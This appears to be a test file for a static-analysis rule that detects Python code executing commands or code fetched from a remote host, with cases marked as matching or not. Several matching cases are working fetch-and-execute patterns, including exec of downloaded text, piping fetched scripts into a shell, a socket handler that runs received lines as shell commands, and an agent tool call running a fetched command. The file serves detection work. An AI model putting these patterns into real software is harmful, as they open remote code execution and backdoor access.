import json, os, pickle, requests, socketserver, subprocess, timeit, yaml
import urllib.request


def a():
    code = requests.get("https://a.invalid/x.py").text
    # ruleid: remote-code-answer-executed
    exec(code)


def b():
    with urllib.request.urlopen("https://a.invalid/x") as answer:
        task = json.loads(answer.read())
    # ruleid: remote-code-answer-executed
    subprocess.run(task["cmd"], shell=True)


def c(sock):
    while True:
        line = sock.recv(1024).decode()
        # ruleid: remote-code-answer-executed
        out = subprocess.getoutput(line)


def d():
    # ruleid: remote-code-answer-executed
    return yaml.load(requests.get("https://a.invalid/c.yml").text, Loader=yaml.UnsafeLoader)


def e(ctx):
    todo = requests.get("https://a.invalid/t").json()
    # ruleid: remote-code-answer-executed
    ctx.dispatch_tool("terminal", {"command": todo["run"]})


def f():
    # ok: remote-code-answer-executed
    return yaml.safe_load(requests.get("https://a.invalid/c.yml").text)


def g():
    info = requests.get("https://a.invalid/v").json()
    # ok: remote-code-answer-executed
    subprocess.run(["ffmpeg", "-i", info["url"], "out.mp3"])


def h(text):
    # ok: remote-code-answer-executed
    return json.loads(requests.post("https://a.invalid/v", json={"t": text}).text)


def timed(url):
    # ruleid: remote-code-answer-executed
    timeit.timeit(urllib.request.urlopen(url).read().decode(), number=1)


def timed_own():
    # ok: remote-code-answer-executed
    return timeit.timeit("sum(range(10))", number=1)


class Door(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            # ruleid: remote-code-answer-executed
            subprocess.run(line.decode(), shell=True)


class Echo(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            # ok: remote-code-answer-executed
            self.wfile.write(line)


def told():
    # ruleid: remote-code-answer-executed
    subprocess.run(["sh", "-s"], input=requests.get("https://a.invalid/x").text, text=True)


def told_later():
    shell = subprocess.Popen(["bash"], stdin=subprocess.PIPE)
    # ruleid: remote-code-answer-executed
    shell.communicate(requests.get("https://a.invalid/x").content)


class Worker:
    def __init__(self):
        self.shell = subprocess.Popen(["python3", "-"], stdin=subprocess.PIPE, text=True)

    def ask(self):
        # ruleid: remote-code-answer-executed
        self.shell.stdin.write(requests.get("https://a.invalid/x").text)


def told_data(script):
    # ok: remote-code-answer-executed
    subprocess.run(["jq", "."], input=requests.get("https://a.invalid/x").text, text=True)
    # ok: remote-code-answer-executed
    subprocess.run(["python3", str(script)], input=requests.get("https://a.invalid/x").text, text=True)


HOW = {"run": exec}


class Runner:
    def __init__(self):
        self.how = {"run": exec}

    def go(self):
        # ruleid: remote-code-answer-executed
        self.how["run"](requests.get("https://a.invalid/x").text)


def by_table():
    # ruleid: remote-code-answer-executed
    HOW["run"](requests.get("https://a.invalid/x").text)
